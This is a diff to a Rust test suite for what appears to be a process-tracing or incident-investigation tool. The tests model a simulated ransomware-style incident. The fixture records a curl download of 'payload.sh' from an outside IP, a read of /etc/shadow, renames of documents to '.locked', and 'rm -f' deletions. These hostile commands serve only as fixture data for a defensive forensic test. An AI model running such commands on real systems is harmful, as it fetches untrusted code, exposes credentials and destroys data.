@@ -139,6 +139,26 @@ fn write_incident(dir: &Path) {
             file_ev("rename", &from, &format!("{from}.locked"), "", false),
         ));
     }
+    // One `rm` per file: four sibling processes that fold into one node.
+    for pid in 404..408u32 {
+        let rm = proc(&format!("rm{pid}"), pid, "script", "/usr/bin/rm", &["rm", "-f"]);
+        b.push(rec(30 + u64::from(pid), rm.clone(), kid_chain.clone(), Event::Exec(ExecEvent::default())));
+        b.push(rec(
+            30 + u64::from(pid),
+            bare(&rm),
+            vec![],
+            file_ev("unlink", &format!("/srv/docs/f{pid}.docx"), "", "", false),
+        ));
+    }
+    // The downloader beside the script: not in the view, but something the shell started.
+    let curl = proc(
+        "curl",
+        399,
+        "shell",
+        "/usr/bin/curl",
+        &["curl", "-o", "/tmp/p/payload.sh", "http://10.9.9.9/p"],
+    );
+    b.push(rec(39, curl, script_chain.clone(), Event::Exec(ExecEvent::default())));
     b.push(rec(
         40,
         bare(&script),
@@ -193,11 +213,11 @@ fn connect_finds_the_chain_root_first_and_the_descendants() {
     let inc = run(connect());
     assert_eq!(inc.matched_records, 1);
     let pids: Vec<u32> = inc.nodes.iter().map(|n| n.pid).collect();
-    assert_eq!(pids, vec![1, 200, 300, 400, 401, 402, 403], "root cause first, unrelated cron left out");
+    assert_eq!(pids, vec![1, 200, 300, 400, 401, 402, 403, 404], "root cause first, unrelated cron left out");
     let roles: Vec<Role> = inc.nodes.iter().map(|n| n.role).collect();
     assert_eq!(roles[..4], [Role::Ancestor; 4]);
     assert_eq!(roles[4], Role::Acting);
-    assert_eq!(roles[5..], [Role::Descendant; 2]);
+    assert_eq!(roles[5..], [Role::Descendant; 3]);
     // The service has no records of its own: it is known from the others' ancestry.
     let svc = &inc.nodes[2];
     assert!(svc.from_ancestry);
@@ -208,7 +228,15 @@ fn connect_finds_the_chain_root_first_and_the_descendants() {
     assert_eq!(cat.activity.groups()[0].text(), "read sensitive /etc/shadow");
     let mv = &inc.nodes[6];
     assert_eq!(mv.activity.groups()[0].text(), "renamed 20 files *.docx → *.locked under /srv/docs");
-    assert_eq!(inc.edges.len(), 6);
+    // Four `rm` siblings are one node.
+    let rm = &inc.nodes[7];
+    assert_eq!((rm.folded, rm.folded_pids.as_slice()), (3, &[405, 406, 407][..]));
+    assert_eq!(rm.pid_label(), "4 processes (pids 404, 405, 406, 407)");
+    assert_eq!(rm.activity.groups()[0].text(), "deleted 4 files *.docx under /srv/docs");
+    // The shell's other child (the downloader) is listed under the shell.
+    let shell = inc.nodes[3].activity.groups().iter().map(|g| g.text()).collect::<Vec<_>>();
+    assert_eq!(shell, vec!["started /usr/bin/curl (curl -o /tmp/p/payload.sh http://10.9.9.9/p)"]);
+    assert_eq!(inc.edges.len(), 7);
     assert_eq!(inc.sessions.len(), 1);
     assert_eq!(inc.sessions[0].leader, Some(1));
 }
@@ -220,9 +248,9 @@ fn pid_guid_file_and_session_queries() {
     assert!(by_pid.nodes.iter().any(|n| n.pid == 403), "descendants of the service");
     let by_guid = run(Target::Guid(g("cat")));
     assert_eq!(by_guid.acting().map(|i| by_guid.nodes[i].pid).collect::<Vec<_>>(), vec![402]);
-    let by_file = run(Target::File("/srv/docs".into()));
+    let by_file = run(Target::File("/srv/docs/d0".into()));
     assert_eq!(by_file.acting().map(|i| by_file.nodes[i].pid).collect::<Vec<_>>(), vec![403]);
-    assert_eq!(by_file.matched_records, 20);
+    assert_eq!(by_file.matched_records, 10);
     let by_session = run(Target::Session(7));
     assert!(by_session.acting().count() >= 4);
     let none = run(Target::Pid(12345));
@@ -253,6 +281,8 @@ fn tree_names_the_chain_and_what_it_did() {
         "read sensitive /etc/shadow",
         "renamed 20 files *.docx → *.locked under /srv/docs",
         "connected tcp to 127.0.0.1:4444   ◀ match",
+        "4 processes (pids 404, 405, 406, 407)",
+        "started /usr/bin/curl",
     ] {
         assert!(t.contains(want), "missing {want:?} in\n{t}");
     }
@@ -352,13 +382,14 @@ fn json_names_processes_edges_and_activity() {
     assert_eq!(v["query"], "--connect 127.0.0.1:4444");
     assert_eq!(v["acting"][0], g("script"));
     let procs = v["processes"].as_array().expect("processes");
-    assert_eq!(procs.len(), 7);
+    assert_eq!(procs.len(), 8);
+    assert_eq!(procs[7]["folded_processes"], 3);
     assert_eq!(procs[4]["role"], "acting");
     assert_eq!(procs[4]["parent_guid"], g("shell"));
     assert_eq!(procs[4]["activity"][0]["matched"], true);
     assert_eq!(procs[6]["activity"][0]["kind"], "rename");
     assert_eq!(procs[6]["activity"][0]["count"], 20);
-    assert_eq!(v["edges"].as_array().expect("edges").len(), 6);
+    assert_eq!(v["edges"].as_array().expect("edges").len(), 7);
     assert_eq!(v["sessions"][0]["remote_address"], "10.0.0.5");
 }
 
